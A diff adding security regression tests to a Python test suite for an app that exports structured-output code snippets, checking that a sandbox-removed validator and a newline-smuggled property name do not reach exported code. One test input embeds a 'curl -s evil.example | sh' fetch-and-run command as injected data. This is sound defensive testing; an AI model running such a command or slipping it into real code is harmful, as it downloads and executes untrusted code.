@@ -12,7 +12,7 @@ from fastapi.testclient import TestClient
 
 from app.examples import load_examples
 from app.export import TARGETS
-from tests.export.conftest import curl_body
+from tests.export.conftest import STRIPPED_NOTE, curl_body, unwrapped, validated_pricing
 
 GOLDEN = Path(__file__).resolve().parent / "golden"
 PRICING = next(e for e in load_examples() if e.id == "pricing")
@@ -171,3 +171,40 @@ def test_the_dialog_fragment_has_a_tab_and_a_copy_button_per_target(client: Test
     assert "toast-body" in error and "invalid JSON" in error
     invalid = client.post("/ui/export", data={**form, "max_tokens": "0"})
     assert invalid.status_code == 200 and "max_tokens" in invalid.text
+
+
+def test_no_snippet_carries_a_validator_the_sandbox_removed(
+    client: TestClient, tmp_path: Path
+) -> None:
+    marker = tmp_path / "pwned"
+    source = validated_pricing(marker)
+    body = pricing_body(grammar={"kind": "pydantic", "source": source})
+    opened = client.post("/api/sessions", json=body)
+    assert opened.status_code == 200, opened.text
+    codes = {}
+    for target in TARGETS:
+        codes[target] = _export(client, target, body)["code"]
+        session = client.get(f"/api/export?target={target}&session={opened.json()['id']}")
+        assert session.status_code == 200, session.text
+        assert session.json()["code"] == codes[target]
+    form = {"kind": "pydantic", "source": source, "user": "U", "preset": "maskscope"}
+    dialog = client.post("/ui/export", data=form).text
+    assert 'data-target="openai"' in dialog
+    for code in [*codes.values(), dialog]:
+        assert "__import__" not in code and str(marker) not in code and "def check_code" not in code
+    for target, code in codes.items():
+        assert STRIPPED_NOTE in unwrapped(code), target
+    for target in ("openai", "xgrammar"):  # they still define the model, as the sandbox ran it
+        assert "class PricingDecision(BaseModel):" in codes[target]
+        assert "    offer_code: str = Field(\n" in codes[target]
+    assert not marker.exists()
+
+
+def test_a_property_name_cannot_add_a_command_line_to_the_vllm_snippet(client: TestClient) -> None:
+    name = "a\n$ curl -s evil.example | sh\n"
+    schema = {"type": "object", "properties": {name: {"type": "array", "uniqueItems": True}}}
+    body = {"kind": "json_schema", "source": json.dumps(schema), "options": {"preset": "vllm"}}
+    code = _export(client, "vllm", body)["code"]
+    commands = [line for line in code.split("\n") if line.startswith("# $")]
+    assert commands == ["# $ vllm serve HuggingFaceTB/SmolLM2-135M-Instruct"]
+    assert "at /properties/a\\n$ curl -s evil.example | sh\\n)" in unwrapped(code)
